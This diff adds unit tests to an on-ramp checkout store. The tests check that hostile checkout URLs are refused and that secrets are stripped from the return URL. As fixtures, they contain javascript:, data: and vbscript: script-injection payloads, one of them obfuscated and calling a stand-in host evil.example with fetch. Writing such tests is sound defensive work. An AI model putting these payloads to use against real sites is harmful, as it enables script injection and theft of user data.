@@ -382,6 +382,33 @@ describe('OnrampStore hand-off and pending (J13)', () => {
     expect((await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrap().provider).toBe('coinbase');
   });
 
+  it('refuses a checkout URL that is not http(s) (javascript:, data:): URL_UNSAFE, back to ready, nothing handed out', async () => {
+    for (const hostile of [
+      'javascript:alert(document.domain)//sandbox/onramp/checkout',
+      ' JaVa\tScRiPt:fetch(`//evil.example/`+localStorage.length)',
+      'data:text/html,<script>alert(1)</script>',
+      'vbscript:msgbox(1)',
+    ]) {
+      const { store, data, events, quoted } = setup();
+      await quoted();
+      data.onrampUrl = () => hostile;
+      const error = (await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr();
+      expect(error.code).toBe('URL_UNSAFE');
+      expect(error.message).toBe('This link cannot be opened: it is not a safe web or wallet address');
+      expect(store.status).toBe('ready');
+      expect(store.error).toBe(error);
+      expect(store.checkout).toBeUndefined();
+      expect(names(events)).not.toContain('ONRAMP_URL_OPENED');
+    }
+  });
+
+  it('sends the provider the host page without its query or fragment as the return URL', async () => {
+    const { store, data, quoted } = setup();
+    await quoted();
+    await store.handOff({ returnUrl: 'https://shop.example/buy?session=s3cr3t#access_token=t0k' });
+    expect(data.callsOf('onramp.generateUrl')[0]).toMatchObject({ redirectUrl: 'https://shop.example/buy' });
+  });
+
   it('goes back to ready with the error when the URL cannot be made', async () => {
     const { store, data, quoted } = setup();
     await quoted();
